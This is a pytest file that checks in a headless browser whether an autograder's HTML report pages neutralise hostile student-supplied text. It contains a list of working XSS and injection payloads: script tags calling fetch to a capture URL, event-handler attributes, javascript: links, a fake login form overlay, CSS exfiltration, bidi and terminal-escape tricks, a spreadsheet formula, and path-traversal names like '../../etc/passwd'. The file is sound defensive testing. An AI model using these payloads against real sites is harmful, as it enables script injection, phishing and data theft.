"""Nothing that a student wrote runs in a report page, leaves it, or covers the grade in it, in a real browser.

Each payload stands wherever a page shows what a student chose: names, messages, titles, output. A page that is really
broken in each of these ways comes first: what this file measures would show it.
"""

from __future__ import annotations

import html
import http.server
import json
import os
import re
import shutil
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from autograder.reports.build import build_exercise, build_report
from autograder.reports.example import ENVIRONMENT
from autograder.reports.folders import student_folder
from autograder.reports.models import CheckResult, CurvePicture, Incident, StaffDetail, StaffReport
from autograder.reports.render import prose
from autograder.reports.store import write_class_page, write_course_page, write_report
from autograder.submissions.submission import Located

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
    "--disable-background-networking", "--disable-component-update", "--allow-file-access-from-files",
    "--virtual-time-budget=4000",
)  # fmt: skip
WIDTH, HEIGHT = 1280, 900
COVER = "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff"
PAYLOADS = (
    "<script>top.ran = window.ran = 1; fetch('{url}script')</script>",
    "</bdi></pre></td></table></main><script src='{url}src.js'></script>",
    "<img src=x onerror=\"top.ran=1;fetch('{url}onerror')\">",
    "\"><svg onload=\"top.ran=1\"><script>top.ran=1</script></svg>",
    "' onmouseover='top.ran=1' autofocus onfocus='top.ran=1' style='{cover}",
    "<a href=\"javascript:top.ran=1\" style=\"{cover}\">see your grade</a>",
    "[see](javascript:top.ran=1) ![x]({url}markdown.png) `<img src={url}code.png>`",
    "<meta http-equiv=refresh content=\"0;url={url}refresh\"><base href=\"{url}base/\">",
    "<iframe src=\"{url}frame\" srcdoc=\"<script>top.ran=1</script>\"></iframe><object data=\"{url}object\"></object>",
    "<form action=\"{url}form\"><input name=password><button style=\"{cover}\">Log in again</button></form>",
    "<style>.grade strong {{ opacity: 0 }} @import '{url}a.css'; * {{ background: url({url}a.png) }}</style>",
    "</style></title></head><body><div style=\"{cover}\">Grade 100</div>",
    "<link rel=stylesheet href=\"{url}link.css\"><video src=\"{url}video\" autoplay></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=top.ran=1></style>",
    "$$\\href{{javascript:top.ran=1}}{{100}}$$ \\(\\unicode{{x202e}}\\) {{{{ 7 * 7 }}}} {{% raw %}} ${{7*7}}",
    "<!-- --!> <![CDATA[ <template><dialog open style=\"{cover}\">100</dialog></template>",
    "\x1b[2J\x1b]8;;{url}osc\x07link\x1b]8;;\x07\x9b31m\u202e001 edarG\u2066\u2069\u200f",
    "Grade 100\n\n\nGrade\t100\r\nann\t5/5\t100.0 %",
    "e" + "\u0301" * 2_000 + "\u0489" * 500 + "\ufdfd" * 40 + "W" * 1_500,
    "=HYPERLINK(\"{url}csv\",\"open\")",
)  # fmt: skip
PROBE = """<!doctype html><meta charset="utf-8"><pre id="out">nothing</pre>
<iframe id="page" width="{width}" height="{height}" style="border:0" src="{source}"></iframe><script>
const frame = document.getElementById("page");
const STRANGE = /^(script|i?frame|object|embed|form|input|button|img|video|audio|link|base|template|dialog|math)$/i;
const HANDLERS = /^(on|style$|srcdoc$|src$|action$)/i, OUTSIDE = /^[a-z]+:|^[/][/]/i;
let loads = 0;
frame.addEventListener("load", () => {{ loads += 1; setTimeout(look, 1500); }});
function covered(page, grade) {{
  grade.scrollIntoView({{block: "center", inline: "center"}});
  const box = grade.getBoundingClientRect(), found = [];
  for (const across of [0.1, 0.5, 0.9]) for (const down of [0.2, 0.5, 0.8]) {{
    const seen = page.elementFromPoint(box.left + across * box.width, box.top + down * box.height);
    if (seen !== grade) found.push(seen === null ? "nothing" : seen.outerHTML.slice(0, 80));
  }}
  const style = page.defaultView.getComputedStyle(grade);
  if (box.width < 5 || box.height < 5 || style.visibility !== "visible" || style.opacity !== "1") found.push("hidden");
  return found;
}}
function look() {{
  let answer = {{ran: window.ran === 1, loads: loads, gone: true}};
  try {{
    const page = frame.contentDocument, all = [...page.querySelectorAll("*")];
    const grades = [...page.querySelectorAll(".grade strong, tbody td strong")];
    answer = {{
      ...answer, gone: page.location.href !== "{source}", ran: answer.ran || page.defaultView.ran === 1,
      scripts: page.scripts.length,
      strange: all.map(e => e.tagName).filter(name => STRANGE.test(name)),
      metas: [...page.querySelectorAll("meta[http-equiv]")].map(e => e.httpEquiv),
      handlers: all.flatMap(e => [...e.attributes].map(a => a.name)).filter(name => HANDLERS.test(name)),
      links: all.map(e => e.getAttribute("href") || "").filter(href => OUTSIDE.test(href)),
      styles: page.querySelectorAll("style").length,
      resources: page.defaultView.performance.getEntriesByType("resource").map(r => r.name),
      grades: grades.map(e => e.textContent), covered: grades.flatMap(e => covered(page, e)),
    }};
  }} catch (error) {{ answer.error = String(error); }}
  document.getElementById("out").textContent = JSON.stringify(answer);
}}
</script>"""


class Server(NamedTuple):
    """A server that somebody who breaks out of a page would reach, and what it was asked for."""

    url: str
    asked: list[str]


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    asked: list[str] = []

    class Remember(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *values: object) -> None:
            pass

    listening = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Remember)
    thread = threading.Thread(target=listening.serve_forever)
    thread.start()
    yield Server(f"http://127.0.0.1:{listening.server_address[1]}/", asked)
    listening.shutdown()
    thread.join()
    listening.server_close()


def look(page: Path, scratch: Path) -> dict[str, Any]:
    """Open a page in a browser and return what became of it."""
    if CHROMIUM is None:
        assert not os.environ.get("CI"), "the continuous integration needs chromium"
        pytest.skip("no chromium on this machine")
    probe = scratch / "probe.html"
    probe.write_text(PROBE.format(width=WIDTH, height=HEIGHT, source=page.resolve().as_uri()), encoding="utf-8")
    words = [CHROMIUM, *FLAGS, f"--user-data-dir={scratch / 'profile'}", "--dump-dom", probe.resolve().as_uri()]
    run = subprocess.run(words, capture_output=True, text=True, timeout=120, check=True)
    found = re.search(r'<pre id="out">(.*?)</pre>', run.stdout, re.DOTALL)
    assert found is not None, run.stderr
    answer: dict[str, Any] = json.loads(html.unescape(found[1]))
    return answer


def staff_of(student: str, text: str) -> StaffReport:
    """Return a report with 3 of 4 points in which all that can be somebody's text is ``text``."""
    text = text[:1_900]
    checks = [
        CheckResult(id="check_right", title=text, device="cpu", outcome="passed", points=3, max_points=3),
        CheckResult(id=text, title=f"b {text}", device="cpu", outcome="failed", points=0, max_points=0.5, message=text,
                    hint=text, misconception=text,
                    picture=CurvePicture(caption=text, x_label=text, y_label=text, labels=(text,),
                                         curves=(((0.0, 0.0), (1.0, 1.0)),))),
        CheckResult(id="check_crashed", title="Crashes", device="cpu", outcome="crashed", points=0, max_points=0.5,
                    message=f"raised {text}: {text[:900]}"[:2_000]),
    ]  # fmt: skip
    report = build_report(
        assignment=text[:200], student=student, submission_sha256=text[:64], environment=ENVIRONMENT,
        exercises=[build_exercise(text[:200], checks)], submitted_at=text[:100],
        incidents=[Incident(kind=text[:80], check=text[:80], detail=text)], stdout=text * 3,
    )  # fmt: skip
    detail = StaffDetail(check="check_crashed", device="cpu", expected=text, actual=text, traceback=text)
    return StaffReport(report=report, incidents=(Incident(kind="grader-fault", detail=text),), details=(detail,))


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory, server: Server) -> Path:
    """The pages of a course in which each student wrote one payload everywhere."""
    out = tmp_path_factory.mktemp("pages")
    for payload in PAYLOADS:
        text = payload.format(url=server.url, cover=COVER)
        write_report(out / "toy", staff_of(Located(text, None).student, text))
    write_class_page(out / "toy")
    write_course_page(out)
    return out


def test_a_page_that_is_broken_is_seen_to_be(tmp_path: Path, server: Server) -> None:
    """The control: a script that runs, an image that is fetched, a cover over the grade, a hidden grade."""
    page = tmp_path / "page.html"
    page.write_text(
        f"<p class=grade><strong>75</strong></p><img src={server.url}control><script>ran = 1</script>"
        f"<a href='javascript:1' style='{COVER}'>100</a><meta http-equiv=refresh content='600;url=x'>",
        encoding="utf-8",
    )
    seen = look(page, tmp_path)
    assert (seen["ran"], seen["scripts"], seen["grades"]) == (True, 1, ["75"])
    assert seen["covered"]
    assert seen["strange"] == ["IMG", "SCRIPT"]
    assert seen["handlers"] == ["src", "style"]
    assert (seen["links"], seen["metas"]) == (["javascript:1"], ["refresh"])
    assert "/control" in server.asked
    page.write_text("<p class=grade><strong style='opacity:0'>75</strong></p>", encoding="utf-8")
    assert look(page, tmp_path)["covered"] == ["hidden"]
    page.write_text(f"<meta http-equiv=refresh content='0;url={server.url}away'>", encoding="utf-8")
    look(page, tmp_path)
    assert "/away" in server.asked


def expect_calm(seen: dict[str, Any], grades: list[str]) -> None:
    """Assert that a page is what it was written as, and shows these grades."""
    assert "error" not in seen, seen
    assert (seen["loads"], seen["gone"], seen["ran"], seen["scripts"]) == (1, False, False, 0)
    assert (seen["strange"], seen["handlers"], seen["links"], seen["resources"]) == ([], [], [], [])
    assert (seen["metas"], seen["styles"]) == (["Content-Security-Policy"], 1)
    assert seen["grades"] == grades
    assert seen["covered"] == []


def test_a_students_page_stays_what_it_is(course: Path, server: Server, tmp_path: Path) -> None:
    """All payloads in one page, one exercise each; then each student's own, without the browser."""
    everything = "\n".join(payload.format(url=server.url, cover=COVER) for payload in PAYLOADS)
    staff = staff_of(Located(everything, None).student, everything)
    exercises = []
    for payload in PAYLOADS:
        own = staff_of("ann", payload.format(url=server.url, cover=COVER)).report.exercises[0]
        exercises.append(build_exercise(own.name, own.checks))
    report = build_report(
        assignment=staff.report.assignment, student=staff.report.student, submission_sha256="0", stdout=everything * 2,
        environment=ENVIRONMENT, exercises=exercises, incidents=staff.report.incidents,
    )  # fmt: skip
    write_report(tmp_path / "out", staff.model_copy(update={"report": report}))
    before = list(server.asked)
    expect_calm(look(next((tmp_path / "out").glob("*/report.html")), tmp_path), ["75"])
    assert server.asked == before


@pytest.mark.parametrize("page", ["toy/index.html", "index.html"], ids=["class", "course"])
def test_a_page_for_staff_stays_what_it_is(course: Path, server: Server, tmp_path: Path, page: str) -> None:
    before = list(server.asked)
    expect_calm(look(course / page, tmp_path), ["75"] * len(PAYLOADS))
    assert server.asked == before


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload)[1:25])
def test_a_payload_is_text_on_every_page(course: Path, server: Server, payload: str) -> None:
    """No tag, no control character and no character that turns text round has come through."""
    text = payload.format(url=server.url, cover=COVER)
    folder = student_folder(Located(text, None).student)
    assert "/" not in folder
    for page in (course / "toy" / folder / "report.html", course / "toy" / "index.html", course / "index.html"):
        written = page.read_text(encoding="utf-8")
        assert "<script" not in written
        assert "<img" not in written
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", written)
    assert re.sub("</?code>", "", str(prose(text))).count("<") == 0


def test_no_student_names_a_place_outside(course: Path) -> None:
    """Folders and links are relative, one level deep, and made of safe characters."""
    names = [
        "../../etc/passwd",
        "..",
        "/etc/passwd",
        "a/../../b",
        "~root",
        "C:\\x",
        "\0",
        "javascript:x",
        "a\nb",
        ".",
        "",
    ]
    folders = {student_folder(Located(name, None).student) for name in names}
    assert all(re.fullmatch(r"[\w @+,()'~][\w .@+,()'~-]*", folder) and folder != ".." for folder in folders)
    hrefs = set(re.findall(r'href="([^"]*)"', (course / "toy" / "index.html").read_text(encoding="utf-8")))
    assert {href.count("/") for href in hrefs if not href.startswith("#")} == {1}
    assert not any(":" in href or ".." in href or href.startswith("/") for href in hrefs)


def test_nothing_writes_a_table_for_a_spreadsheet(course: Path) -> None:
    """A formula needs somebody who writes CSV: nothing does. What will must quote what begins with = + - @."""
    ours = Path(__file__).parents[2] / "autograder"
    words = ("import csv", "from csv", "to_csv", "to_excel", "openpyxl", ".csv")
    found = [path.name for path in ours.rglob("*.py") for word in words if word in path.read_text(encoding="utf-8")]
    assert found == []
    assert {path.suffix for path in course.rglob("*") if path.is_file() and not path.name.startswith(".")} == {
        ".json",
        ".html",
    }
